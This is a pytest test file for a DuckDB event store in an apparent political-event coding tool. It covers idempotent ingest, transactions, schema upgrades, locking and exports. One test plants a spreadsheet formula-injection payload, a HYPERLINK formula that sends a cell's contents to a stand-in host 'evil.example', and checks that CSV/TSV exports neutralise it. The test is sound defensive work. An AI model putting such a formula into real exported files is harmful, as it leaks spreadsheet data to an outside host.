"""The store: idempotent, transactional, round-trips events, exports."""

from __future__ import annotations

import csv
import io
import json

import duckdb
import pytest

from shadowline.records import Actor, Document, Event, Location
from shadowline.store import Store, StoreError
from shadowline.store.export import write_events, write_parquet


def _event(doc_id="d1", index=0, kind="ACCUSE"):
    return Event(doc_id=doc_id, sentence_index=index, sentence="Russia criticised France.", char_start=7,
                 char_end=17, source=Actor("Russia", "RUS", "GOV", "GOV", "Russia", "dictionary"),
                 target=Actor("France", "FRA", "GOV", "GOV", "France", "dictionary"), plover_type=kind,
                 cameo_code="111", quad_class=3, goldstein=-2.0, plover_score=-3.0, plover_context=["diplomatic"],
                 date="2024-05-17", date_precision="day", location=Location("Paris", "FRA", 48.85, 2.35, "PPL"),
                 confidence=0.9, coder_version="test")


def _coded(doc_id="d1", events=None):
    from shadowline.coding.pipeline import CodedDocument
    from shadowline.records import Sentence

    document = Document(doc_id, "Russia criticised France.", "2024-05-17")
    return CodedDocument(document, [Sentence(doc_id, 0, document.text, 0, len(document.text))],
                         events if events is not None else [_event(doc_id)])


def test_events_round_trip(tmp_path):
    with Store(tmp_path / "s.duckdb") as store:
        result = store.write_batch([_coded()])
        assert (result.documents_written, result.events_written) == (1, 1)
        [event] = store.events()
    assert event == _event()


def test_ingesting_twice_stores_once(tmp_path):
    path = tmp_path / "s.duckdb"
    with Store(path) as store:
        store.write_batch([_coded()])
        again = store.write_batch([_coded()])
        assert again.documents_skipped == 1 and again.documents_written == 0
        assert store.count_events() == 1 and store.count_documents() == 1


def test_a_failing_batch_leaves_nothing_half_written(tmp_path):
    path = tmp_path / "s.duckdb"
    with Store(path) as store:
        store.write_batch([_coded("d0")])
        broken = _coded("d2")
        broken.events[0].sentence_index = "not a number"  # type: ignore[assignment]
        with pytest.raises(duckdb.Error):
            store.write_batch([_coded("d1"), broken])
        assert store.count_documents() == 1 and store.count_events() == 1
        assert not store.has_document("d1")


def test_read_only_store_must_exist(tmp_path):
    with pytest.raises(StoreError, match="no such store"):
        Store(tmp_path / "missing.duckdb", read_only=True)
    not_a_store = tmp_path / "other.duckdb"
    duckdb.connect(str(not_a_store)).close()
    with pytest.raises(StoreError, match="not a shadowline store"):
        Store(not_a_store, read_only=True)


def test_filters(tmp_path):
    with Store(tmp_path / "s.duckdb") as store:
        store.write_batch([_coded("d1", [_event("d1", 0, "ACCUSE")]), _coded("d2", [_event("d2", 0, "AID")])])
        assert len(store.events(actor="rus")) == 2
        assert [e.plover_type for e in store.events(plover_type="aid")] == ["AID"]
        assert store.events(since="2025-01-01") == []
        assert store.top_dyads()[0]["source"] == "RUS"


def test_exports_nest_actors_and_use_plover_names(tmp_path):
    events = [_event()]
    out = io.StringIO()
    write_events(events, "jsonl", out)
    record = json.loads(out.getvalue())
    assert record["source"] == {"text": "Russia", "country": "RUS", "sector": "GOV", "cameo_role": "GOV",
                                "name": "Russia", "via": "dictionary", "backer": None, "kind": None}
    out = io.StringIO()
    write_events(events, "plover", out)
    plover = json.loads(out.getvalue())
    assert plover["event"] == ["ACCUSE"] and plover["actor"][0]["code"] == "RUS" and plover["quad_code"] == 3
    out = io.StringIO()
    write_events(events, "csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["source_country"] == "RUS" and row["plover_context"] == "diplomatic"
    import pyarrow.parquet as pq

    table = pq.read_table(write_parquet(events, tmp_path / "e.parquet"))
    assert table.column("plover_type").to_pylist() == ["ACCUSE"]


def test_actor_kinds_are_stored_and_older_stores_gain_the_columns(tmp_path):
    from dataclasses import replace

    path = tmp_path / "old.duckdb"
    with Store(path) as store:
        store.con.execute("ALTER TABLE events DROP COLUMN source_kind")
        store.con.execute("ALTER TABLE events DROP COLUMN target_kind")
    event = _event()
    event = replace(event, source=replace(event.source, kind="state"), target=replace(event.target, kind="seat"))
    with Store(path) as store:
        store.write_batch([_coded("d1", [event])])
        [stored] = store.events()
    assert (stored.source.kind, stored.target.kind) == ("state", "seat")


def test_a_store_made_before_actor_kinds_reads_read_only(tmp_path):
    path = tmp_path / "older.duckdb"
    with Store(path) as store:
        store.write_batch([_coded()])
        store.con.execute("ALTER TABLE events DROP COLUMN source_kind")
        store.con.execute("ALTER TABLE events DROP COLUMN target_kind")
    with Store(path, read_only=True) as store:
        [event] = store.events()
    assert event.source.country == "RUS" and event.source.kind is None


def test_event_pages_of_a_store_made_before_actor_kinds(tmp_path):
    from shadowline.store.pages import EventQuery, read_events

    path = tmp_path / "older.duckdb"
    with Store(path) as store:
        store.write_batch([_coded()])
        store.con.execute("ALTER TABLE events DROP COLUMN source_kind")
        store.con.execute("ALTER TABLE events DROP COLUMN target_kind")
    with Store(path, read_only=True) as store:
        [event] = read_events(store.con, EventQuery(limit=10))
    assert event.source.country == "RUS" and event.target.kind is None


def _file_bytes(path):
    return path.read_bytes()


def _damaged_store(tmp_path):
    path = tmp_path / "damaged.duckdb"
    with Store(path) as store:
        store.write_batch([_coded()])
    with open(path, "r+b") as f:  # flip bytes in the header block: DuckDB's checksum no longer matches
        f.seek(4196)
        flipped = bytes(b ^ 0xFF for b in f.read(16))
        f.seek(4196)
        f.write(flipped)
    return path


def _other_program_db(tmp_path):
    path = tmp_path / "inventory.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE stock (item VARCHAR, n INTEGER)")
    con.execute("INSERT INTO stock VALUES ('bolts', 7)")
    con.close()
    return path


@pytest.mark.parametrize("make, words", [
    (_damaged_store, "damaged"),
    (lambda tmp: (tmp / "notes.duckdb", (tmp / "notes.duckdb").write_text("shopping list"))[0], "not a DuckDB"),
    (_other_program_db, "another program"),
])
def test_a_file_that_is_not_our_store_is_refused_untouched(tmp_path, make, words):
    path = make(tmp_path)
    before = _file_bytes(path)
    for read_only in (False, True):
        with pytest.raises(StoreError, match=words) as caught:
            Store(path, read_only=read_only)
        assert str(path) in str(caught.value) and "untouched" in str(caught.value)
    assert _file_bytes(path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]  # no write-ahead log left beside it


def test_a_store_of_schema_1_is_upgraded_with_text_hashes(tmp_path):
    path = tmp_path / "old.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE meta (key VARCHAR PRIMARY KEY, value VARCHAR)")
    con.execute("INSERT INTO meta VALUES ('schema_version', '1')")
    con.execute("CREATE TABLE documents (doc_id VARCHAR PRIMARY KEY, date DATE, title VARCHAR, url VARCHAR, "
                "source VARCHAR, path VARCHAR, text VARCHAR, n_sentences INTEGER, "
                "ingested_at TIMESTAMP DEFAULT current_timestamp)")
    con.execute("INSERT INTO documents (doc_id, text) VALUES ('old', 'Russia criticised France.')")
    con.close()
    with Store(path) as store:
        screening = store.screen([Document("new-id", "Russia criticised France.")])
        assert screening.same_text[0][1] == "old" and not screening.fresh
        assert store.con.execute("SELECT value FROM meta").fetchone()[0] == "2"


def test_screening_finds_reruns_id_conflicts_and_the_same_text_under_another_id(tmp_path):
    with Store(tmp_path / "s.duckdb") as store:
        store.write_batch([_coded("d1")])
        screening = store.screen([
            Document("d1", "Russia criticised France.", "2024-05-17"),  # a re-run
            Document("d1", "Turkey supported Azerbaijan."),  # the id of a stored, different text
            Document("copy", "Russia criticised France."),  # stored text, another id
            Document("n1", "Greece protested."), Document("n1", "Armenia protested."),  # in the batch itself
            Document("n2", "Greece protested."),
        ])
    assert screening.already_stored == 1
    assert [d.doc_id for d in screening.fresh] == ["n1"]
    assert [(d.text, i) for d, i in screening.id_conflicts] == [("Turkey supported Azerbaijan.", "d1"),
                                                               ("Armenia protested.", "n1")]
    assert [(d.doc_id, other) for d, other in screening.same_text] == [("copy", "d1"), ("n2", "n1")]


_HOLD = """
import sys, time, duckdb
con = duckdb.connect(sys.argv[1])
print("holding", flush=True)
time.sleep(30)
"""


def test_a_store_held_by_another_writer_gives_a_plain_message(tmp_path):
    import subprocess
    import sys

    path = tmp_path / "busy.duckdb"
    Store(path).close()
    holder = subprocess.Popen([sys.executable, "-c", _HOLD, str(path)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "holding"
        with pytest.raises(StoreError, match=r"busy.duckdb is being written by another process \(PID \d+\)"):
            Store(path, read_only=True, wait=0.3)
        with pytest.raises(StoreError, match="held open by another process"):
            Store(path, wait=0.3)
    finally:
        holder.kill()
        holder.wait()


_READ = """
import sys
from shadowline.store import Store
with Store(sys.argv[1], read_only=True, wait=0) as store:
    print(store.count_documents())
"""


def _count_from_another_process(path):
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", _READ, str(path)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return int(done.stdout)


@pytest.mark.model
def test_other_processes_read_the_store_between_ingest_batches(tmp_path, pattern_coder):
    from shadowline.ingest import ingest_documents

    path = tmp_path / "s.duckdb"
    seen = []

    def documents():
        yield Document("a", "Russia criticised France.", "2024-05-01")
        seen.append(_count_from_another_process(path))  # asked for while the first batch is done
        yield Document("b", "Turkey threatened Greece.", "2024-05-02")

    with Store(path) as store:
        summary = ingest_documents(store, pattern_coder, documents(), batch_size=1)
    assert seen == [1] and summary.documents_written == 2


@pytest.mark.model
def test_ingest_reports_id_conflicts_and_skips_the_same_text(tmp_path, pattern_coder):
    from shadowline.ingest import ingest_documents

    problems, notices = [], []
    with Store(tmp_path / "s.duckdb") as store:
        summary = ingest_documents(store, pattern_coder, [
            Document("r1", "Russia criticised France.", path="wire.jsonl:1"),
            Document("r1", "Turkey threatened Greece.", path="wire.jsonl:2"),
            Document("r3", "Russia criticised France.", path="wire.jsonl:3"),
        ], report=problems.append, notice=notices.append)
        assert store.count_documents() == 1
    assert summary.documents_written == 1 and summary.id_conflicts == 1 and summary.same_text == 1
    assert "already stored" not in str(problems[0]) and "wire.jsonl:2" in str(problems[0])
    assert "'r1' is already taken by a different text" in str(problems[0])
    assert notices == ["wire.jsonl:3: same text as document 'r1', not stored again"]
    assert "1 with the text of another id skipped" in summary.line()


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_cells_cannot_run_as_spreadsheet_formulas(fmt):
    event = _event()
    event.sentence = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    event.source = Actor("+Russia", "RUS", "GOV", "GOV", "-Russia", "dictionary")
    event.target = Actor("@France", "FRA", "GOV", "GOV", "\tFrance", "dictionary")
    out = io.StringIO()
    write_events([event], fmt, out)
    row = next(csv.DictReader(io.StringIO(out.getvalue()), delimiter="," if fmt == "csv" else "\t"))
    assert row["sentence"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (row["source_text"], row["source_name"], row["target_text"]) == ("'+Russia", "'-Russia", "'@France")
    assert row["target_name"].startswith("'")
    assert row["goldstein"] == "-2.0"  # a number stays a number


def test_events_within_one_country_are_no_dyad(tmp_path):
    domestic = _event("d2", kind="PROTEST")
    domestic.source = Actor("Protesters", "FRA", "CVL", "CVL", None, "agent+document")
    domestic.event_id = ""
    domestic.__post_init__()
    with Store(tmp_path / "s.duckdb") as store:
        store.write_batch([_coded("d1"), _coded("d2", [domestic, _event("d2", index=0, kind="PROTEST")])])
        assert [(d["source"], d["target"]) for d in store.top_dyads()] == [("RUS", "FRA")]
